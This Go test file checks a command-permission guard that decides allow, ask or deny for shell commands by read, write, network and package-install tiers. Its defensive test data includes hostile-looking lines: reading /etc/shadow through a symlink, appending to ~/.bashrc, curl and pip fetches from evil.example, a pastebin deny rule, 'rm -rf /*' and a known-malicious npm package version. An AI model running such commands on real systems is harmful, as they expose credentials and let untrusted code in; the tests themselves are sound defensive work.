package grants

import (
	"strings"
	"testing"

	"github.com/guard-dev/guard/classify"
)

// tierCase is one decision with the tiers on: the project is /home/u/proj,
// home /home/u, the working directory the project root unless cwd says.
type tierCase struct {
	name  string
	cmd   string
	rules []string          // as settings() reads them; "[read] /x" patterns are tier entries
	links map[string]string // Facts.Real: a path as written → where it points
	cwd   string
	want  Decision
	rule  string // "" : any
	sug   string // the suggested grant; "-" : none
}

func tierSettings(rules ...string) *Settings {
	s := settings(rules...)
	s.Root = "/home/u/proj"
	s.Composite = "each"
	return s
}

func runTierCase(t *testing.T, tc tierCase) {
	t.Helper()
	opt := testOptions()
	if tc.cwd != "" {
		opt.Cwd = tc.cwd
	}
	a := classify.Analyze(tc.cmd, opt)
	s := tierSettings(tc.rules...)
	f := &Facts{Home: "/home/u", Real: tc.links}
	v := DecideWith(a, s, f)
	if v.Decision != tc.want || tc.rule != "" && v.Rule != tc.rule || tc.sug == "-" && v.Suggest != "" || tc.sug != "" && tc.sug != "-" && v.Suggest != tc.sug {
		_, trace := ExplainWith(a, s, f)
		t.Errorf("%q: got %s rule=%q suggest=%q reason=%q; want %s rule=%q suggest=%q\n%s",
			tc.cmd, v.Decision, v.Rule, v.Suggest, v.Reason, tc.want, tc.rule, tc.sug, strings.Join(trace, "\n"))
	}
}

var readTierCases = []tierCase{
	{name: "inside", cmd: "cat src/main.go", want: Allow, rule: RuleBuiltinReadonly},
	{name: "inside absolute", cmd: "cat /home/u/proj/README.md", want: Allow},
	{name: "outside", cmd: "cat /home/u/other/notes.txt", want: Ask, rule: RulePathRead, sug: "[read] /home/u/other"},
	{name: "outside listing", cmd: "ls /srv/data", want: Ask, rule: RulePathRead, sug: "[read] /srv/data"},
	{name: "home itself is never offered", cmd: "cat ~/notes.txt", want: Ask, rule: RulePathRead, sug: "[read] /home/u/notes.txt"},
	{name: "public system tree", cmd: "cat /etc/os-release", want: Allow},
	{name: "usr", cmd: "head -5 /usr/share/dict/words", want: Allow},
	{name: "toolchain cache", cmd: "ls ~/go/pkg/mod", want: Allow},
	{name: "cargo registry", cmd: "grep -r fn ~/.cargo/registry/src", want: Allow},
	{name: "tmp", cmd: "cat /tmp/build.log", want: Allow},
	{name: "credential under etc asks", cmd: "tail /etc/ssh/sshd_config", want: Ask, rule: RulePathRead, sug: "-"},
	{name: "read grant covers the tree", cmd: "cat /srv/data/a/b.csv", rules: []string{"project-grants allow [read] /srv/data"}, want: Allow},
	{name: "global read grant counts", cmd: "cat /srv/data/x", rules: []string{"global-grants allow [read] /srv/data"}, want: Allow},
	{name: "a sibling is not the tree", cmd: "cat /srv/database/x", rules: []string{"project-grants allow [read] /srv/data"}, want: Ask, rule: RulePathRead},
	{name: "write grant covers reads", cmd: "cat /srv/out/x", rules: []string{"project-grants allow [write] /srv/out"}, want: Allow},
	{name: "longest prefix: deny below allow", cmd: "cat /home/u/work/secrets/k", rules: []string{"global allow [read] /home/u/work", "global deny [read] /home/u/work/secrets"}, want: Deny, rule: RulePathDeny},
	{name: "longest prefix: allow beside deny", cmd: "cat /home/u/work/src/k", rules: []string{"global allow [read] /home/u/work", "global deny [read] /home/u/work/secrets"}, want: Allow},
	{name: "longest prefix: allow below deny", cmd: "cat /srv/x/pub/a", rules: []string{"global deny [read] /srv/x", "global allow [read] /srv/x/pub"}, want: Allow},
	{name: "deny wins inside the project", cmd: "cat secrets/key.pem", rules: []string{"project deny [read] /home/u/proj/secrets"}, want: Deny, rule: RulePathDeny},
	{name: "untrusted project config allows nothing", cmd: "cat /srv/data/x", rules: []string{"project allow [read] /srv/data"}, want: Ask, rule: RulePathRead},
	{name: "dot-dot escape", cmd: "cat ../other/x", want: Ask, rule: RulePathRead, sug: "[read] /home/u/other"},
	{name: "dot-dot that stays inside", cmd: "cat src/../README.md", want: Allow},
	{name: "cd out, then relative", cmd: "cd /srv/data && cat x", want: Ask, rule: RulePathRead},
	{name: "cd inside, then relative", cmd: "cd src && cat main.go", want: Allow},
	{name: "symlink escape on disk", cmd: "cat x/shadow", links: map[string]string{"/home/u/proj/x/shadow": "/etc/shadow"}, want: Ask, rule: RulePathRead},
	{name: "symlink to a public tree", cmd: "cat x/os-release", links: map[string]string{"/home/u/proj/x/os-release": "/etc/os-release"}, want: Allow},
	{name: "symlink made in the same text", cmd: "ln -s /etc x; cat x/shadow", rules: []string{"global allow ln *"}, want: Deny, rule: "credential-read"}, // followed like cd: cat /etc/shadow
	{name: "symlink to a private file", cmd: "head lib.txt", links: map[string]string{"/home/u/proj/lib.txt": "/home/u/.aws/notes"}, want: Ask, rule: RulePathRead},
	{name: "input redirect outside", cmd: "wc -l < /srv/data/x", want: Ask},
	{name: "a glob reads its directory", cmd: "cat /srv/logs/*.log", want: Ask, rule: RulePathRead, sug: "[read] /srv/logs"},
	{name: "grep -r a tree outside", cmd: "grep -rn TODO /opt/app ~/other", want: Ask, rule: RulePathRead},
	{name: "diff against outside", cmd: "diff a.txt /home/u/b.txt", want: Ask, rule: RulePathRead},
	{name: "source outside", cmd: "source ~/other/env.sh", rules: []string{"global allow source *"}, want: Ask, rule: RulePathRead},
	{name: "tar lists an archive outside", cmd: "tar -tf /srv/a.tar", want: Ask, rule: RulePathRead, sug: "[read] /srv"},
}

var writeTierCases = []tierCase{
	{name: "redirect into the project", cmd: `echo "- note" >> NOTES.md`, want: Allow},
	{name: "heredoc into a project file", cmd: "cat > internal/util/util.go <<'EOF'\npackage util\nEOF", want: Allow},
	{name: "heredoc into cat with an expansion stays composite", cmd: "cat > a.go <<EOF\n$(id)\nEOF", want: Ask, rule: RuleComposite},
	{name: "heredoc into a shell stays composite", cmd: "bash <<'EOF'\nls\nEOF", want: Ask, rule: RuleComposite},
	{name: "test log redirect is as grantable as the test", cmd: "go test ./... > test.log 2>&1", want: Ask, sug: "go test *"},
	{name: "test log redirect under a grant", cmd: "go test ./... > test.log 2>&1", rules: []string{"project-grants allow go test *"}, want: Allow},
	{name: "redirect without a grant for the command", cmd: "make > build.log", want: Ask, rule: RuleUnknown, sug: "make"},
	{name: "redirect outside stays composite, offering a write grant", cmd: "echo x > /srv/data/x", want: Ask, rule: RuleComposite, sug: "[write] /srv/data"},
	{name: "redirect outside in a pipeline", cmd: "ls | sort > /srv/data/x", want: Ask, rule: RuleComposite, sug: "[write] /srv/data"},
	{name: "input redirect outside offers a read grant", cmd: "sort < /srv/data/x", want: Ask, rule: RuleComposite, sug: "[read] /srv/data"},
	{name: "no write grant offered for a dotfile", cmd: "echo x >> ~/.bashrc", want: Ask, rule: RuleComposite, sug: "-"},
	{name: "no write grant offered past an ask entry", cmd: "echo x > /srv/keep/x", rules: []string{"global ask [write] /srv/keep"}, want: Ask, rule: RuleComposite, sug: "-"},
	{name: "redirect outside under a write grant", cmd: "echo x > /srv/data/x", rules: []string{"project-grants allow [write] /srv/data"}, want: Allow},
	{name: "redirect to tmp", cmd: "ls > /tmp/listing", want: Allow},
	{name: "redirect into .git", cmd: "echo x > .git/config", want: Deny, rule: RulePathDeny},
	{name: "redirect into .guard", cmd: "echo 'unknown = \"ask\"' > .guard/config.toml", want: Deny, rule: RulePathDeny},
	{name: "redirect through a symlink out", cmd: "echo x > out.txt", links: map[string]string{"/home/u/proj/out.txt": "/home/u/.bashrc"}, want: Ask, rule: RuleComposite, sug: "-"},
	{name: "redirect escaping with ..", cmd: "echo x > ../x", want: Ask, rule: RuleComposite},
	{name: "dynamic redirect target", cmd: `echo x > "$F"`, want: Ask, rule: RuleComposite},
	{name: "tee into the project", cmd: "go vet ./... 2>&1 | tee vet.log", rules: []string{"project-grants allow go vet *"}, want: Allow},
	{name: "tee outside", cmd: "tee /srv/x < in.txt", want: Ask},
	{name: "rm inside under a grant", cmd: "rm tmp.txt", rules: []string{"project-grants allow rm *"}, want: Allow},
	{name: "rm of git internals", cmd: "rm .git/index.lock", rules: []string{"project-grants allow rm *"}, want: Deny, rule: RulePathDeny},
	{name: "git keeps its own directory", cmd: "git commit -m x", rules: []string{"project-grants allow git *"}, want: Allow},
	{name: "cp to outside asks", cmd: "cp a.txt /srv/out/a.txt", rules: []string{"project-grants allow cp a.txt /srv/out/a.txt"}, want: Ask, rule: RulePathWrite, sug: "[write] /srv/out"},
	{name: "cp to outside under a write grant", cmd: "cp a.txt /srv/out/a.txt", rules: []string{"project-grants allow cp a.txt /srv/out/a.txt", "global-grants allow [write] /srv/out"}, want: Allow},
	{name: "a '*' grant covers a write a write grant covers", cmd: "cp a.txt /srv/out/a.txt", rules: []string{"project-grants allow cp *", "project-grants allow [write] /srv/out"}, want: Allow},
	{name: "a '*' grant does not cover a write outside", cmd: "cp a.txt /srv/x/a.txt", rules: []string{"project-grants allow cp *", "project-grants allow [write] /srv/out"}, want: Ask, rule: RuleExecCapable},
	{name: "mkdir outside", cmd: "mkdir -p /srv/new/dir", rules: []string{"global allow mkdir -p /srv/new/dir"}, want: Ask, rule: RulePathWrite},
	{name: "touch in tmp", cmd: "touch /tmp/x", rules: []string{"global allow touch *"}, want: Allow},
	{name: "dd of= outside", cmd: "dd if=a.img of=/srv/b.img", rules: []string{"global allow dd if=a.img of=/srv/b.img"}, want: Ask, rule: RulePathWrite},
	{name: "sed -i outside", cmd: "sed -i s/a/b/ /srv/conf.txt", rules: []string{"global allow sed -i s/a/b/ /srv/conf.txt"}, want: Ask, rule: RulePathWrite},
	{name: "tar -x -C outside", cmd: "tar -xf a.tar -C /srv/x", rules: []string{"global allow tar -xf a.tar -C /srv/x"}, want: Ask, rule: RulePathWrite},
	{name: "unzip -d outside", cmd: "unzip a.zip -d /srv/x", rules: []string{"global allow unzip a.zip -d /srv/x"}, want: Ask, rule: RulePathWrite},
	{name: "write deny below a write grant", cmd: "touch /srv/out/keep/x", rules: []string{"global allow touch *", "global allow [write] /srv/out", "managed deny [write] /srv/out/keep"}, want: Deny, rule: RulePathDeny},
	{name: "a deny entry binds inside a composite", cmd: "ls && rm -f secrets/k", rules: []string{"global allow rm *", "global deny [write] /home/u/proj/secrets"}, want: Deny, rule: RulePathDeny},
}

var networkTierCases = []tierCase{
	{name: "granted host", cmd: "curl -s https://api.github.com/repos/x", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Allow},
	{name: "curl * is not every host", cmd: "curl -s https://evil.example/x", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, rule: RuleNetwork, sug: "[http] evil.example"},
	{name: "subdomains are separate", cmd: "curl https://github.com/x", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Ask, rule: RuleNetwork},
	{name: "parent is not a subdomain's grant", cmd: "curl https://api.github.com/x", rules: []string{"global allow curl *", "project-grants allow [http] github.com"}, want: Ask, rule: RuleNetwork},
	{name: "userinfo and port stripped", cmd: "curl https://u:p@API.GitHub.com:8443/x", rules: []string{"global allow curl *", "project-grants allow [http] api.github.com"}, want: Allow},
	{name: "global grants do not count", cmd: "curl https://api.github.com/", rules: []string{"global allow curl *", "global-grants allow [http] api.github.com"}, want: Ask, rule: RuleNetwork},
	{name: "managed grants count", cmd: "curl https://api.github.com/", rules: []string{"global allow curl *", "managed allow [http] api.github.com"}, want: Allow},
	{name: "trusted project config counts", cmd: "curl https://api.github.com/", rules: []string{"global allow curl *", "project+ allow [http] api.github.com"}, want: Allow},
	{name: "untrusted project config does not", cmd: "curl https://api.github.com/", rules: []string{"global allow curl *", "project allow [http] api.github.com"}, want: Ask, rule: RuleNetwork},
	{name: "deny entry", cmd: "curl https://pastebin.com/raw/x", rules: []string{"global allow curl *", "global deny [http] pastebin.com"}, want: Deny, rule: RuleNetworkDeny},
	{name: "localhost is a host like any", cmd: "curl http://localhost:8080/health", rules: []string{"global allow curl *"}, want: Ask, rule: RuleNetwork, sug: "[http] localhost"},
	{name: "ip literal", cmd: "curl http://10.0.0.5/x", rules: []string{"global allow curl *"}, want: Ask, sug: "[http] 10.0.0.5"},
	{name: "ipv6 literal", cmd: "curl http://[::1]:9000/", rules: []string{"global allow curl *"}, want: Ask, sug: "[http] ::1"},
	{name: "wget", cmd: "wget -q https://dl.example.com/a.tgz", rules: []string{"global allow wget *"}, want: Ask, sug: "[http] dl.example.com"},
	{name: "ssh user@host", cmd: "ssh deploy@web1.example.com uptime", rules: []string{"global allow ssh deploy@web1.example.com uptime"}, want: Ask, sug: "[http] web1.example.com"},
	{name: "scp remote", cmd: "scp dist.tgz deploy@web1:/srv/", rules: []string{"global allow scp *"}, want: Ask, sug: "[http] web1"},
	{name: "rsync remote granted", cmd: "rsync -av dist/ web1:/srv/app/", rules: []string{"global allow rsync *", "project-grants allow [http] web1"}, want: Allow},
	{name: "git clone scp-like", cmd: "git clone git@github.com:org/repo", rules: []string{"global allow git clone *"}, want: Ask, sug: "[http] github.com"},
	{name: "git clone https granted", cmd: "git clone https://github.com/org/repo", rules: []string{"global allow git clone *", "project-grants allow [http] github.com"}, want: Allow},
	{name: "git fetch a named remote", cmd: "git fetch origin", rules: []string{"global allow git fetch *"}, want: Allow},
	{name: "git push a literal URL", cmd: "git push https://gitlab.com/o/r main", rules: []string{"global allow git push *"}, want: Ask, sug: "[http] gitlab.com"},
	{name: "nc", cmd: "nc -w 3 db.internal 5432", rules: []string{"global allow nc *"}, want: Ask, sug: "[http] db.internal"},
	{name: "dynamic host", cmd: `curl "https://$HOST/x"`, rules: []string{"global allow curl *"}, want: Ask},
	{name: "pip from a URL", cmd: "pip install git+https://evil.example/x.git", rules: []string{"global allow pip install *"}, want: Ask, rule: RuleNetwork},
}

var packageTierCases = []tierCase{
	{name: "unversioned asks once, no grant", cmd: "npm install left-pad", want: Ask, rule: RulePackagePin, sug: "-"},
	{name: "npm i unversioned", cmd: "npm i -D left-pad", want: Ask, rule: RulePackagePin},
	{name: "range is not a version", cmd: "npm install left-pad@^1.3.0", want: Ask, rule: RulePackagePin},
	{name: "versioned asks with the approval", cmd: "npm install left-pad@1.3.0", want: Ask, rule: RulePackage, sug: "[packages] npm:left-pad@1.3.0"},
	{name: "approved", cmd: "npm install left-pad@1.3.0", rules: []string{"project-grants allow [packages] npm:left-pad@1.3.0"}, want: Allow, rule: RulePackage},
	{name: "another version needs its own", cmd: "npm install left-pad@1.3.1", rules: []string{"project-grants allow [packages] npm:left-pad@1.3.0"}, want: Ask, rule: RulePackage, sug: "[packages] npm:left-pad@1.3.1"},
	{name: "a bash grant is not an approval", cmd: "npm install left-pad@1.3.0", rules: []string{"global-grants allow npm install *"}, want: Ask, rule: RulePackage},
	{name: "scoped", cmd: "pnpm add @types/node@20.11.5", want: Ask, sug: "[packages] npm:@types/node@20.11.5"},
	{name: "two packages, one approval each", cmd: "yarn add a@1.0.0 b@2.0.0", rules: []string{"global-grants allow [packages] npm:a@1.0.0"}, want: Ask, sug: "[packages] npm:b@2.0.0"},
	{name: "pip pinned", cmd: "pip install requests==2.31.0", want: Ask, sug: "[packages] pypi:requests@2.31.0"},
	{name: "pip range", cmd: "pip install 'requests>=2'", want: Ask, rule: RulePackagePin},
	{name: "pip approved, extras", cmd: "pip install 'Requests[socks]==2.31.0'", rules: []string{"global-grants allow [packages] pypi:requests@2.31.0"}, want: Allow},
	{name: "python -m pip", cmd: "python3 -m pip install black==24.1.0", want: Ask, sug: "[packages] pypi:black@24.1.0"},
	{name: "uv add", cmd: "uv add httpx==0.27.0", want: Ask, sug: "[packages] pypi:httpx@0.27.0"},
	{name: "uv pip install", cmd: "uv pip install httpx", want: Ask, rule: RulePackagePin},
	{name: "cargo install --version", cmd: "cargo install ripgrep --version 14.1.0", want: Ask, sug: "[packages] cargo:ripgrep@14.1.0"},
	{name: "cargo add", cmd: "cargo add serde@1.0.197", want: Ask, sug: "[packages] cargo:serde@1.0.197"},
	{name: "go install", cmd: "go install golang.org/x/tools/gopls@v0.15.3", want: Ask, sug: "[packages] go:golang.org/x/tools/gopls@v0.15.3"},
	{name: "go install latest", cmd: "go install golang.org/x/tools/gopls@latest", want: Ask, rule: RulePackagePin},
	{name: "go get", cmd: "go get github.com/pkg/errors@v0.9.1", want: Ask, sug: "[packages] go:github.com/pkg/errors@v0.9.1"},
	{name: "gem -v", cmd: "gem install rails -v 7.1.3", want: Ask, sug: "[packages] gem:rails@7.1.3"},
	{name: "brew by name", cmd: "brew install jq", want: Ask, sug: "[packages] brew:jq"},
	{name: "brew approved", cmd: "brew install jq", rules: []string{"global-grants allow [packages] brew:jq"}, want: Allow},
	{name: "apt-get pinned", cmd: "apt-get install -y jq=1.6-2.1", want: Ask, sug: "[packages] apt:jq@1.6-2.1"},
	{name: "deny entry for every version", cmd: "npm install event-stream@3.3.6", rules: []string{"managed deny [packages] npm:event-stream"}, want: Deny, rule: RulePackageDeny},
	{name: "bare npm install is the bash grants'", cmd: "npm install", rules: []string{"project-grants allow npm install"}, want: Allow, rule: "npm install"},
	{name: "npm ci", cmd: "npm ci", rules: []string{"project-grants allow npm ci"}, want: Allow},
	{name: "pip -r", cmd: "pip install -r requirements.txt", rules: []string{"project-grants allow pip install -r requirements.txt"}, want: Allow},
	{name: "go install of the project", cmd: "go install ./cmd/guard", rules: []string{"project-grants allow go install *"}, want: Allow},
	{name: "dynamic package", cmd: `npm install "$PKG"`, want: Ask, rule: RulePackagePin},
	{name: "in a composite", cmd: "cd web && npm install left-pad@1.3.0", want: Ask, sug: "[packages] npm:left-pad@1.3.0"},
	{name: "wrapped", cmd: "timeout 300 npm install left-pad@1.3.0", rules: []string{"global-grants allow [packages] npm:left-pad@1.3.0"}, want: Allow},
}

func TestReadTier(t *testing.T) {
	for _, tc := range readTierCases {
		t.Run(tc.name, func(t *testing.T) { runTierCase(t, tc) })
	}
}

func TestWriteTier(t *testing.T) {
	for _, tc := range writeTierCases {
		t.Run(tc.name, func(t *testing.T) { runTierCase(t, tc) })
	}
}

func TestNetworkTier(t *testing.T) {
	for _, tc := range networkTierCases {
		t.Run(tc.name, func(t *testing.T) { runTierCase(t, tc) })
	}
}

func TestPackageTier(t *testing.T) {
	for _, tc := range packageTierCases {
		t.Run(tc.name, func(t *testing.T) { runTierCase(t, tc) })
	}
}

// TestTierPathsListsWhatIsJudged: the paths the caller resolves are the
// ones the tiers look up, relative ones joined to the command's directory.
func TestTierPathsListsWhatIsJudged(t *testing.T) {
	a := classify.Analyze("cd src && cat main.go ../../x > /tmp/out; ls ~/go", testOptions())
	got := TierPaths(a, tierSettings(), "/home/u")
	for _, want := range []string{"/home/u/proj/src", "/home/u/proj/src/main.go", "/home/u/x", "/tmp/out", "/home/u/go"} {
		found := false
		for _, p := range got {
			found = found || p == want
		}
		if !found {
			t.Errorf("TierPaths lacks %q: %q", want, got)
		}
	}
	if got := TierPaths(classify.Analyze("true", testOptions()), tierSettings(), "/home/u"); len(got) != 0 {
		t.Errorf("true names paths: %q", got)
	}
}

func TestTierGrantText(t *testing.T) {
	for _, tc := range []struct {
		in     string
		tier   string
		values []string
		ok     bool
	}{
		{"[read] /srv/my data", TierRead, []string{"/srv/my data"}, true},
		{"[http] api.github.com", TierHTTP, []string{"api.github.com"}, true},
		{"[packages] npm:a@1.0.0 npm:b@2.0.0", TierPackages, []string{"npm:a@1.0.0", "npm:b@2.0.0"}, true},
		{"[bash] ls", "", nil, false},
		{"git *", "", nil, false},
		{"[read] ", "", nil, false},
	} {
		tier, values, ok := ParseTierGrant(tc.in)
		if ok != tc.ok || ok && (tier != tc.tier || strings.Join(values, "|") != strings.Join(tc.values, "|")) {
			t.Errorf("ParseTierGrant(%q) = %q %q %v", tc.in, tier, values, ok)
		}
	}
	if !ProjectOnly("[http] x") || ProjectOnly("[read] /x") || ProjectOnly("curl *") {
		t.Error("ProjectOnly: only a host is project-only")
	}
}

func TestValidateTierEntry(t *testing.T) {
	for _, tc := range []struct {
		tier, kind, in, want string // want "!" : an error
	}{
		{TierRead, "allow", "/srv/data/", "/srv/data"},
		{TierRead, "allow", "~/work/../notes", "~/notes"},
		{TierRead, "allow", "/", "!"},
		{TierRead, "deny", "/", "/"},
		{TierRead, "allow", "~bob/x", "!"},
		{TierWrite, "allow", "build/out", "build/out"},
		{TierHTTP, "allow", "https://API.example.com:443/x", "api.example.com"},
		{TierHTTP, "allow", "*.example.com", "!"},
		{TierPackages, "allow", "npm:left-pad@1.3.0", "npm:left-pad@1.3.0"},
		{TierPackages, "allow", "npm:left-pad", "!"},
		{TierPackages, "deny", "npm:left-pad", "npm:left-pad"},
		{TierPackages, "allow", "brew:jq", "brew:jq"},
		{TierPackages, "allow", "pypi:Requests@2.31.0", "pypi:requests@2.31.0"},
		{TierPackages, "allow", "cpan:x@1", "!"},
	} {
		got, err := ValidateTierEntry(tc.tier, Decision(tc.kind), tc.in)
		if tc.want == "!" && err == nil || tc.want != "!" && (err != nil || got != tc.want) {
			t.Errorf("ValidateTierEntry(%s, %s, %q) = %q, %v; want %q", tc.tier, tc.kind, tc.in, got, err, tc.want)
		}
	}
}

// BenchmarkDecideTiers is BenchmarkDecide's mix with every tier on: a
// project root, facts, and entries in every tier table.
func BenchmarkDecideTiers(b *testing.B) {
	s := settings("managed deny rm -rf /*", "global deny curl *", "global ask git push *", "project-grants allow go test *",
		"project-grants allow go vet *", "project-grants allow npm test *", "global-grants allow git *", "global-grants allow make *",
		"global-grants allow docker *", "global-grants allow npm install *", "project+ allow cargo *", "global allow gh pr *",
		"project-grants allow [read] /srv/data", "global deny [write] /home/u/proj/secrets", "project-grants allow [http] api.github.com",
		"project-grants allow [packages] npm:left-pad@1.3.0")
	s.Composite = "each"
	s.Root = "/home/u/proj"
	f := &Facts{Home: "/home/u", Root: "/home/u/proj"}
	var as []*classify.Analysis
	for _, c := range append(append([]string{}, benchSet...), "cat > a.go <<'EOF'\nx\nEOF", "echo x >> NOTES.md", "go test ./... > t.log 2>&1") {
		as = append(as, classify.Analyze(c, testOptions()))
	}
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		DecideWith(as[n%len(as)], s, f)
		n++
	}
}

// TestTierRolesCoverTheIssueLists: every command of the issue's read and
// write lists gives the tiers an access of the right kind to the path
// outside the project it names.
func TestTierRolesCoverTheIssueLists(t *testing.T) {
	for _, tc := range []struct {
		cmd, tier, path string
	}{
		{"cat /o/f", TierRead, "/o/f"},
		{"head -n 3 /o/f", TierRead, "/o/f"},
		{"tail -f /o/f", TierRead, "/o/f"},
		{"less /o/f", TierRead, "/o/f"},
		{"grep -r x /o/d", TierRead, "/o/d"},
		{"rg x /o/d", TierRead, "/o/d"},
		{"cp /o/src b", TierRead, "/o/src"},
		{"tar -czf a.tgz /o/src", TierRead, "/o/src"},
		{"rsync -a /o/src host:/x", TierRead, "/o/src"},
		{"scp /o/f host:/x", TierRead, "/o/f"},
		{"diff a /o/b", TierRead, "/o/b"},
		{"base64 /o/f", TierRead, "/o/f"},
		{"xxd /o/f", TierRead, "/o/f"},
		{"sed -n 1p /o/f", TierRead, "/o/f"},
		{"awk 1 /o/f", TierRead, "/o/f"},
		{"jq . /o/f.json", TierRead, "/o/f.json"},
		{"source /o/env.sh", TierRead, "/o/env.sh"},
		{". /o/env.sh", TierRead, "/o/env.sh"},
		{"wc -l < /o/f", TierRead, "/o/f"},
		{"echo x > /o/f", TierWrite, "/o/f"},
		{"echo x >> /o/f", TierWrite, "/o/f"},
		{"echo x >| /o/f", TierWrite, "/o/f"},
		{"ls &> /o/f", TierWrite, "/o/f"},
		{"tee /o/f", TierWrite, "/o/f"},
		{"cp a /o/dst", TierWrite, "/o/dst"},
		{"mv a /o/dst", TierWrite, "/o/dst"},
		{"install -m 755 a /o/dst", TierWrite, "/o/dst"},
		{"ln -s a /o/link", TierWrite, "/o/link"},
		{"rm -f /o/f", TierWrite, "/o/f"},
		{"rmdir /o/d", TierWrite, "/o/d"},
		{"unlink /o/f", TierWrite, "/o/f"},
		{"truncate -s 0 /o/f", TierWrite, "/o/f"},
		{"shred /o/f", TierWrite, "/o/f"},
		{"touch /o/f", TierWrite, "/o/f"},
		{"mkdir -p /o/d", TierWrite, "/o/d"},
		{"chmod 600 /o/f", TierWrite, "/o/f"},
		{"chown u /o/f", TierWrite, "/o/f"},
		{"sed -i s/a/b/ /o/f", TierWrite, "/o/f"},
		{"dd if=a of=/o/f", TierWrite, "/o/f"},
		{"tar -xf a.tar -C /o/d", TierWrite, "/o/d"},
		{"curl -o /o/f https://h/x", TierWrite, "/o/f"},
		{"wget -O /o/f https://h/x", TierWrite, "/o/f"},
		{"git clone https://h/r /o/d", TierWrite, "/o/d"},
		{"unzip a.zip -d /o/d", TierWrite, "/o/d"},
		{"cd /o && curl -O https://h/x", TierWrite, "/o"},
		{"mytool --out=/o/f", TierWrite, "/o/f"},
	} {
		a := classify.Analyze(tc.cmd, testOptions())
		tv := makeTiers(tierSettings(), &Facts{Home: "/home/u"})
		found := false
		for _, ac := range tv.accesses(a) {
			found = found || ac.tier == tc.tier && ac.path == tc.path
		}
		if !found {
			t.Errorf("%q: no %s access to %s among %+v", tc.cmd, tc.tier, tc.path, tv.acc)
		}
	}
}

// FuzzDecideTiers: any text, decided with every tier on, gives a valid
// verdict without panicking, and TierPaths lists only absolute paths.
func FuzzDecideTiers(f *testing.F) {
	for _, set := range [][]tierCase{readTierCases, writeTierCases, networkTierCases, packageTierCases} {
		for _, tc := range set {
			f.Add(tc.cmd)
		}
	}
	s := tierSettings("project-grants allow [read] /srv/data", "global deny [write] /home/u/proj/secrets",
		"project-grants allow [http] api.github.com", "project-grants allow [packages] npm:left-pad@1.3.0", "global-grants allow curl *")
	f.Fuzz(func(t *testing.T, text string) {
		a := classify.Analyze(text, testOptions())
		paths := TierPaths(a, s, "/home/u")
		real := map[string]string{}
		for _, p := range paths {
			if !strings.HasPrefix(p, "/") {
				t.Fatalf("%q: TierPaths gave a relative path %q", text, p)
			}
			real[p] = "/etc" + p // a hostile disk: every path a link elsewhere
		}
		v := DecideWith(a, s, &Facts{Home: "/home/u", Root: "/home/u/proj", Real: real})
		switch v.Decision {
		case Allow, Ask, Deny:
		default:
			t.Fatalf("%q: decision %q", text, v.Decision)
		}
		if a.Fail != "" && v.Decision != Deny {
			t.Fatalf("%q: a failed analysis was not denied: %+v", text, v)
		}
	})
}

// TestHomeUnderTmp: a HOME under /tmp (containers, CI, sandboxes) is not
// scratch space: the built-in /tmp entries stop at the home directory, so
// its dotfiles are asked about like any home path, while /tmp itself, the
// toolchain caches and a project inside the home keep their entries.
func TestHomeUnderTmp(t *testing.T) {
	const home = "/tmp/sandbox/home"
	cases := []struct {
		cmd  string
		cwd  string
		want Decision
	}{
		{"echo x >> ~/.bashrc", "/srv/proj", Ask},
		{"printf x >| ~/.profile", "/srv/proj", Ask},
		{"cat ~/notes.txt", "/srv/proj", Ask},
		{"echo x > /tmp/out.txt", "/srv/proj", Allow},
		{"cat /tmp/build.log", "/srv/proj", Allow},
		{"ls ~/go/pkg/mod", "/srv/proj", Allow},
		{"echo x >> notes.md", home + "/proj", Allow},
		{"cat ~/.bashrc", home, Allow}, // the home is the project: its own entry decides
	}
	for _, tc := range cases {
		opt := classify.Options{Cwd: tc.cwd, Home: home}
		a := classify.Analyze(tc.cmd, opt)
		s := settings()
		s.Root, s.Composite = tc.cwd, "each"
		v := DecideWith(a, s, &Facts{Home: home})
		if v.Decision != tc.want {
			t.Errorf("%q in %s: got %s (%s: %s), want %s", tc.cmd, tc.cwd, v.Decision, v.Rule, v.Reason, tc.want)
		}
	}
}
